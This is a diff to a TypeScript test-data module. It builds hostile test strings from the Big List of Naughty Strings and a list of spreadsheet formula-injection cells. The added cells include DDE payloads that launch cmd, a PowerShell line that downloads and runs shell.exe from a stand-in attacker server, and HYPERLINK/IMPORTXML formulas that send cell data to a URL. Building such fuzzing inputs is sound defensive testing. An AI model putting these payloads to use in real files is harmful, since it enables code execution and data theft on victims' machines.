@@ -1,21 +1,33 @@
-/** Strings that break careless software, from the data folder beside the project; none where that folder is absent. */
-import { existsSync, readFileSync } from 'node:fs';
-import { gunzipSync } from 'node:zlib';
+/** Strings that break careless software: the Big List of Naughty Strings, and cells that a spreadsheet would run. */
+import naughty from 'big-list-of-naughty-strings' with { type: 'json' };
 
-const folder = new URL('../../../shared/data/hostile_strings/', import.meta.url);
+/** How a cell begins that a spreadsheet takes for a formula. */
+const formulaStarts = ['=', '+', '-', '@', '\t=', '\r=', '＝', '=   ', ' ='];
+const formulas = [
+  '1+1',
+  'SUM(1,1)',
+  "2+5+cmd|' /C calc'!A0",
+  "cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
+  'AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A',
+  "rundll32|'URL.dll,OpenURL calc.exe'!A",
+  'HYPERLINK("http://127.0.0.1/?x="&A1,"click")',
+  'IMPORTXML("http://127.0.0.1/csv", "//a/@href")',
+  'DDE("cmd";"/C calc";"!A0")A0',
+];
+
+/** Cells that a spreadsheet would run. */
+export const formulaCells: readonly string[] = formulaStarts.flatMap((start) =>
+  formulas.map((formula) => start + formula),
+);
+
+export const naughtyStrings: readonly string[] = naughty;
+
 /** Characters that the fields take which the tests write to. */
 const longest = 255;
 
 /** Whole characters only, and none that no text in a database can have. */
 export function readHostileStrings(): string[] {
-  if (!existsSync(folder)) return [];
-  const naughty = JSON.parse(
-    gunzipSync(readFileSync(new URL('blns.json.gz', folder))).toString(),
-  ) as string[];
-  const { payloads } = JSON.parse(readFileSync(new URL('csv_injection.json', folder), 'utf8')) as {
-    payloads: string[];
-  };
-  return [...naughty, ...payloads]
+  return [...naughtyStrings, ...formulaCells]
     .map((text) => Array.from(text).slice(0, longest).join(''))
     .filter((text) => text !== '' && !text.includes('\0') && !/\p{Cs}/u.test(text));
 }
